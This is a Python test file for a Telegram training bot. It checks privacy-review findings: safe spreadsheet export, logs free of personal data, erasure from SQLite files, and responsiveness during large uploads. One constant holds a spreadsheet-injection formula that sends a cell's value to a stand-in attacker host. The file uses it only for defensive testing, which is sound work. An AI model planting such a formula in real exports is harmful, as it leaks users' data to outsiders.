"""The privacy review's findings, each reproduced: what a participant typed never runs in a
spreadsheet, never reaches a log, and does not outlive the retention period or an erasure."""

from __future__ import annotations

import asyncio
import io
import logging
import time
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text
from sqlalchemy.engine import make_url
from sqlalchemy.exc import IntegrityError
from telegram import Update

from bot.db import SessionFactory, create_engine, create_session_factory
from bot.documents.activity_report import activity_report_xlsx
from bot.models import SurveyResponse
from bot.playground.botapi import FakeTelegram
from bot.services.activity import activity_report_view
from bot.services.training_file import MAX_FILE_BYTES
from bot.settings import Settings
from tests.after_factories import finished_training
from tests.conftest import ADMIN_ID, JAKARTA
from tests.factories import make_participant
from tests.harness import BotHarness, FakeClock
from tests.training_files import one_training

PRINTED = datetime(2026, 12, 1, 9, 0, tzinfo=JAKARTA)
NAME, BUSINESS = "Zulaikha Prameswari", "Kedai Zulaikha Jaya"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


async def test_a_survey_answer_that_looks_like_a_formula_is_text_in_the_report(
    sessions: SessionFactory,
) -> None:
    training, regs = await finished_training(sessions, ["Siti"], [[1]])
    async with sessions() as session:
        session.add(
            SurveyResponse(
                registration_id=regs[0].id, training_id=training.id, overall=5, material=5,
                trainer=5, helped=FORMULA, started_at=PRINTED, finished_at=PRINTED,
                updated_at=PRINTED,
            )
        )  # fmt: skip
        await session.commit()
        view = await activity_report_view(session, training.id, JAKARTA)
    assert view is not None
    book = openpyxl.load_workbook(io.BytesIO(activity_report_xlsx(view)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    quoted = [cell for cell in cells if cell.value == FORMULA]
    assert quoted and all(cell.data_type == "s" for cell in quoted)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


async def test_a_failed_write_logs_no_personal_value(
    db_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    engine = create_engine(db_url, pool_size=1)
    log = logging.getLogger("bot.test.write")
    try:
        async with create_session_factory(engine)() as session:
            for name in ("Siti Rahayu", "Bu Ratna Kusumawardani"):  # one Telegram id twice
                await make_participant(
                    session, 424242, full_name=name, business_name="Warung Ratna Jaya"
                )
    except IntegrityError:
        with caplog.at_level(logging.ERROR):
            log.exception("registration failed")
    finally:
        await engine.dispose()
    assert "IntegrityError" in caplog.text
    # (PostgreSQL's own DETAIL names the duplicate key, the Telegram id; the values are gone.)
    for value in ("Ratna", "Warung"):
        assert value not in caplog.text


async def test_an_erased_name_is_gone_from_the_sqlite_files(
    sqlite_url: str, settings: Settings, tg: FakeTelegram, clock: FakeClock
) -> None:
    engine = create_engine(sqlite_url)
    sessions = create_session_factory(engine)
    bot = BotHarness(replace(settings, database_url=sqlite_url), sessions, tg, clock)
    await bot.start()
    try:
        async with sessions() as session:
            await make_participant(session, 431, full_name=NAME, business_name=BUSINESS)
        user = bot.user(431)
        [ask] = await bot.send(user, "/hapusdata")
        await bot.press(user, ask, "Ya, hapus")
        assert "sudah dihapus" in ask.text
        database = Path(make_url(sqlite_url).database or "")
        for path in (database, database.with_name(database.name + "-wal")):
            held = path.read_bytes() if path.exists() else b""
            assert NAME.encode() not in held and BUSINESS.encode() not in held, path.name
        async with engine.connect() as connection:  # freed space is zeroed on every connection
            assert await connection.scalar(text("PRAGMA secure_delete")) == 1
    finally:
        await bot.stop()
        await engine.dispose()


def _big_training_file() -> bytes:
    """Close to 1 MB of trainings, the last one repeating the first code (refused at the end,
    after the whole file was parsed)."""
    body = one_training("KP-0").split("\n", 1)[1]
    entries: list[str] = []
    while sum(map(len, entries)) < MAX_FILE_BYTES - 2000:
        entries.append(body.replace("KP-0", f"KP-{len(entries)}"))
    return ("trainings:\n" + "".join(entries) + body).encode()


async def test_another_chat_is_answered_while_a_big_training_file_is_parsed(
    harness: BotHarness,
) -> None:
    staff, siti = harness.user(ADMIN_ID, "Staf"), harness.user(6101, "Siti")
    staff.send_document("pelatihan.yaml", _big_training_file())
    siti.send_text("/start")
    app = harness.app
    updates = [Update.de_json(data, app.bot) for data in harness.tg.take_updates()]
    runs = [
        asyncio.create_task(app.update_processor.process_update(u, app.process_update(u)))
        for u in updates
    ]
    started, cpu = time.perf_counter(), time.process_time()
    await runs[1]
    answered = time.perf_counter() - started
    await runs[0]
    parsed, cpu_here = time.perf_counter() - started, time.process_time() - cpu
    assert "Halo, Siti" in siti.last().text
    assert "dua kali" in staff.last().text or "KP-0" in staff.last().text, staff.last().text
    # The parse takes seconds of CPU, in another process: not the bot's, which every chat
    # shares (a thread here would take them from the other chats, the GIL being one).
    assert answered < parsed / 3 and cpu_here < parsed / 3, (answered, cpu_here, parsed)
